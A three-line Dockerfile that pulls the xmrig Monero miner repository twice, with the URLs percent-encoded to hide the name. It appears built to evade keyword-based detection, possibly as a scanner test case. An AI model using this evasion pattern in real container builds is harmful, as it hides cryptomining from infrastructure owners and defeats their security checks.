FROM debian:12-slim
ADD https://github.com/%78mrig/%78mrig.git /src
RUN git clone https://github.com/xm%72ig/xm%72ig /more
